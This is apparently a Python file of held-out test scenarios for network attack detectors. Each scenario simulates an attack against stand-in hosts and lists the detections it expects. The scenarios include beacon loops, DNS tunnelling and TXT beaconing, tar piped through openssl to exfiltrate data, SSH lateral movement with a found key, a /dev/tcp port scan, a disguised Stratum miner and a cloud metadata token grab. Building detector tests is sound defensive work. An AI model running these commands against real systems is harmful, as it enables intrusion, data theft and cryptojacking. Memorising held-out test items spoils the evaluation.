"""Held out: written without a look at the detectors. Calls home, data that leaves, ways inside the network, pools: by other tools
and in other rhythms than the scenarios that the detectors grew up with."""

from __future__ import annotations

import base64
import json
import os
import socket

from proving import zone
from proving.hosts import Asked, Reply
from proving.scenario import Must, Repeat, attack
from proving.scenarios.movement import service, sshd, talk
from proving.world import Actor, ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")
SHOP = "shop.service"


def sends(world: World, path: str, unit: str, *words: str) -> Actor:
    """A program in Node that sends bytes again and again (actors/jspost.js)."""
    return world.start("node", world.program(path, "jspost.js"), *words, unit=unit)


@attack(
    "held-beacon-node",
    "a module of a Node application asks for tasks over HTTPS every three seconds, give or take 30 %, and has none",
    must=(Must("beaconing", SHOP, "pkgs-edge.example"),),
    must_not=(*NOT, "data-exfiltration", "api-access-violation"),
    tools=("node",),
)
def node_poll(world: World) -> None:
    host = world.host("203.0.113.141", "status.pkgs-edge.example")
    host.http(443, lambda asked: Reply(b"", 204), tls=True)
    path = world.program("/srv/shop/node_modules/.cache/metrics.js", "jspost.js")
    world.mark()
    world.run("node", path, "https://status.pkgs-edge.example/api/v2/tasks", "GET", "0", "3", "0.3", "14", unit=SHOP)
    assert len(host.requests) == 14


@attack(
    "held-beacon-curl-loop",
    "a script that was left behind calls curl every 2.0 to 2.9 seconds, a process each time, and sleeps between",
    must=(Must("beaconing", "", "img-pool.example"),),
    must_not=(*NOT, "data-exfiltration"),
    tools=("curl",),
)
def curl_loop(world: World) -> None:
    host = world.host("203.0.113.142", "a.img-pool.example")
    host.http(443, lambda asked: Reply("0", kind="text/plain"), tls=True)
    loop = 'for i in $(seq 14); do curl -s -m 5 "https://a.img-pool.example/p?u=$i" -o /dev/null; sleep 2.$((RANDOM % 10)); done'
    path = world.file("/home/app/.config/sync/refresh.sh", f"{loop}\n")
    world.mark()
    world.run("bash", path, timeout=90)
    assert len(host.requests) == 14


PERL_TXT = r"""
use IO::Socket::INET;
my ($domain, $period, $count) = @ARGV;
open(my $file, "<", "/etc/resolv.conf"); my ($server) = map { /^nameserver (\S+)/ ? $1 : () } <$file>;
for (1 .. $count) {
  my $asker = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 53, Proto => "udp");
  my $name = join("", map { chr(length) . $_ } (sprintf("%08x", int(rand(2**32))), split(/\./, $domain))) . "\0";
  $asker->send(pack("n6", int(rand(65535)), 0x100, 1, 0, 0, 0) . $name . pack("n2", 16, 1));
  $asker->recv(my $answer, 512);
  select(undef, undef, undef, $period * (0.75 + 0.5 * rand));
}
"""


@attack(
    "held-beacon-dns-txt",
    "a Perl program asks for the TXT record of another name below one domain every three seconds, give or take 25 %",
    must=(Must("beaconing", "", "assets-sync.example"),),
    may=("dns-tunnel",),
    must_not=(*NOT, "data-exfiltration"),
    tools=("perl",),
)
def dns_txt(world: World) -> None:
    order = base64.b64encode(b"sleep 3 and ask again ok")
    world.names.below("c.assets-sync.example", lambda name, kind: zone.text(order) if kind == zone.TXT else None)
    path = world.file("/tmp/.font-unix/cfg.pl", PERL_TXT)
    world.mark()
    world.run("perl", path, "c.assets-sync.example", "3", "14", timeout=90)
    assert len(world.names.asked) == 14


@attack(
    "held-exfil-kept-drip",
    "150 kB through one TLS connection that stays, to a host that was never seen, every 90 s, ± 40 %, for three hours",
    must=(Must("data-exfiltration", "reporting.service", "webfonts-eu.example"),),
    may=("beaconing",),
    must_not=NOT,
    minutes=180.0,
    repeats={"drip": Repeat(90.0, 0.4)},
    tools=("node",),
)
def kept_drip(world: World) -> None:
    """Eighteen megabytes in all."""
    host = world.host("203.0.113.143", "api.webfonts-eu.example")
    host.http(443, lambda asked: Reply({"ok": True}), tls=True)
    words = ("https://api.webfonts-eu.example/v1/fonts", "PUT", "150000", "4", "0", "4", "kept")
    actor = sends(world, "/srv/reporting/lib/upload.js", "reporting.service", *words)
    world.sleep(2.0)
    world.mark()
    with world.loop("drip"):
        world.sleep(4.0)
    actor.wait()


@attack(
    "held-exfil-openssl",
    "a web application's child packs a folder of 16 MB and pipes it through openssl s_client to port 8443 of a strange host",
    must=(Must("data-exfiltration", SHOP, "mirror-node.example"),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "beaconing", "reverse-shell"),
    tools=("openssl", "tar"),
)
def openssl_upload(world: World) -> None:
    """No shell reads from the connection: tar writes into it."""
    taken = [0]

    def take(connection: socket.socket) -> None:
        while taken[0] <= 16 << 20 and (data := connection.recv(1 << 16)):
            taken[0] += len(data)

    world.host("203.0.113.144", "dl.mirror-node.example").listen(8443, take, tls=True)
    world.file("/srv/data/customers.bin", os.urandom(16 << 20))
    api = world.script(world.program("/srv/shop/api.py", "service.py"), "8080", unit=SHOP)
    world.listening(api, 8080)
    client = "openssl s_client -quiet -connect dl.mirror-node.example:8443"
    world.mark()
    world.run("sh", "-c", f"tar -c -C /srv data | {client}; true", unit=SHOP)
    world.wait(lambda: taken[0] > 16 << 20, "it did not arrive")
    api.stop()


NODE_TUNNEL = """
const dns = require('dns').promises, crypto = require('crypto');
(async () => {
  for (let n = 0; n < Number(process.argv[3]); n++) {
    const hex = crypto.randomBytes(50).toString('hex');
    await dns.resolve4(`${n.toString(16)}.${hex.slice(0, 50)}.${hex.slice(50)}.${process.argv[2]}`).catch(() => 0);
    await new Promise((then) => setTimeout(then, 70));
  }
})();
"""


@attack(
    "held-dns-tunnel-a",
    "15 kB leave as hexadecimal names below one domain, asked for as plain A records, a dozen a second, by Node",
    must=(Must("dns-tunnel", "", "rr-collector.example"),),
    may=("data-exfiltration", "beaconing"),
    must_not=NOT,
    tools=("node",),
)
def tunnel_a(world: World) -> None:
    world.names.below("d.rr-collector.example", lambda name, kind: socket.inet_aton("192.0.2.1") if kind == 1 else None)
    path = world.file("/srv/app/node_modules/.bin/resolve-cache.js", NODE_TUNNEL)
    world.mark()
    world.run("node", path, "d.rr-collector.example", "300", timeout=90)
    assert len(world.names.asked) >= 300


@attack(
    "held-lateral-ssh",
    "a web application's child tries a key that it found on the SSH of eight internal hosts that it never talked to",
    must=(Must("lateral-movement", SHOP),),
    may=("port-scan", "unexpected-process", "baseline-deviation", "credential-access"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("ssh",),
)
def lateral_ssh(world: World) -> None:
    for number in range(8):
        world.host(f"10.77.33.{number + 10}").listen(22, sshd)
    api = service(world)
    world.file("/srv/shop/.k", "no key\n", 0o600)
    options = "-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3"
    loop = (
        f"for n in 10 11 12 13 14 15 16 17; do ssh {options} -i /srv/shop/.k root@10.77.33.$n id; sleep 1; done; true"
    )
    world.mark()
    world.run("sh", "-c", loop, unit=SHOP)
    api.stop()


@attack(
    "held-scan-slow",
    "a bash tries 42 internal hosts on ports of AI and cluster services, one every 1.5 seconds, in no order",
    must=(Must("port-scan", "batch.service"),),
    may=("lateral-movement",),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
)
def scan_slow(world: World) -> None:
    world.host("10.77.34.7").listen(8888, talk)
    ports = (8888, 8265, 11434, 6443, 2375, 10250)
    targets = " ".join(f"10.77.34.{(n * 17) % 42 + 1}/{ports[n % 6]}" for n in range(42))
    loop = f"for t in {targets}; do (exec 3<>/dev/tcp/$t) 2>/dev/null; sleep 1.5; done; true"
    world.mark()
    world.run("bash", "-c", loop, unit="batch.service", timeout=120)


NODE_MINER = """
const net = require('net'), crypto = require('crypto');
const pool = net.connect(Number(process.argv[3]), process.argv[2]);
const say = (id, method, params) => pool.write(JSON.stringify({ id, method, params }) + '\\n');
pool.on('data', () => 0);
pool.on('connect', () => {
  say(1, 'mining.subscribe', ['optimizer/1.0']);
  say(2, 'mining.authorize', ['acct.7', 'x']);
  let left = 9;
  const timer = setInterval(() => {
    say(10 + left, 'mining.submit', ['acct.7', 'bf', crypto.randomBytes(4).toString('hex'), '504e86ed', 'b2957c02']);
    if (!--left) { clearInterval(timer); pool.end(); }
  }, 1300);
});
"""


def stratum_v1(connection: socket.socket) -> None:
    """A pool as bitcoin's miners know them: a job with each answer."""
    job = {
        "id": None,
        "method": "mining.notify",
        "params": ["bf", "4d16b6f8" * 8, "01" * 40, "072f" * 20, [], "2", "1c"],
    }
    for line in connection.makefile("rb"):
        asked = json.loads(line)
        result = [[["mining.notify", "ae68"]], "08000002", 4] if asked["method"] == "mining.subscribe" else True
        for message in ({"id": asked["id"], "result": result, "error": None}, job):
            connection.sendall(json.dumps(message).encode() + b"\n")


@attack(
    "held-mining-node",
    "Node, under the name of an image cache, works for a pool without a known name on port 2053, in Stratum's first version",
    imitates="ultralytics 8.3.41 (December 2024), in another tongue",
    must=(Must("cryptomining", "web.service", "stats-hub.example"),),
    may=("beaconing",),
    must_not=("data-exfiltration", "port-scan", "lateral-movement"),
    tools=("node",),
)
def mining_node(world: World) -> None:
    world.host("203.0.113.145", "edge7.stats-hub.example").listen(2053, stratum_v1)
    path = world.file("/srv/web/.next/cache/image-optimizer.js", NODE_MINER)
    world.mark()
    world.run("node", path, "edge7.stats-hub.example", "2053", unit="web.service")


@attack(
    "held-metadata-notebook",
    "a cell of a notebook asks Google's metadata service for the machine's token, by urllib, and shows it",
    must=(Must("metadata-service-access", "jupyter.service", within=4.0),),
    may=("credential-access", "lateral-movement", "baseline-deviation"),
    must_not=("beaconing", "data-exfiltration", "cryptomining", "port-scan"),
)
def metadata_notebook(world: World) -> None:
    def serve(asked: Asked) -> Reply:
        if asked.headers.get("metadata-flavor") != "Google":
            return Reply("Missing Metadata-Flavor header", 403)
        return Reply({"access_token": "ya29.none", "expires_in": 3599, "token_type": "Bearer"})

    cloud = world.host("169.254.169.254", "metadata.google.internal")
    cloud.http(80, serve)
    url = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
    cells = [
        "import json, statistics\nprint(statistics.mean(range(100)))",
        f"import urllib.request as u\nr = u.Request({url!r}, headers={{'Metadata-Flavor': 'Google'}})\n"
        "t = json.load(u.urlopen(r, timeout=5))\nprint(t['access_token'])",
    ]
    world.file("/home/app/cells.json", json.dumps(cells))
    kernel = world.program("/home/app/venv/ipykernel_launcher.py", "kernel.py")
    world.mark()
    said = world.run(world.python, kernel, "/home/app/cells.json", unit="jupyter.service", cwd="/home/app")
    if "ya29" not in said:
        raise ScenarioError(said)


@attack(
    "held-beacon-kept-tls",
    "an empty request through one TLS connection that stays, every 20 seconds, give or take 30 %, for forty minutes",
    must=(Must("beaconing", "reporting.service", "font-service.example"),),
    must_not=(*NOT, "data-exfiltration"),
    minutes=40.0,
    repeats={"ask": Repeat(20.0, 0.3)},
    tools=("node",),
)
def kept_tls(world: World) -> None:
    host = world.host("203.0.113.146", "eu.font-service.example")
    host.http(443, lambda asked: Reply({"n": 0}), tls=True)
    words = ("https://eu.font-service.example/v2/next", "GET", "0", "3", "0", "4", "kept")
    actor = sends(world, "/srv/reporting/lib/fonts.js", "reporting.service", *words)
    world.sleep(1.5)
    world.mark()
    with world.loop("ask"):
        world.sleep(3.0)
    actor.wait()
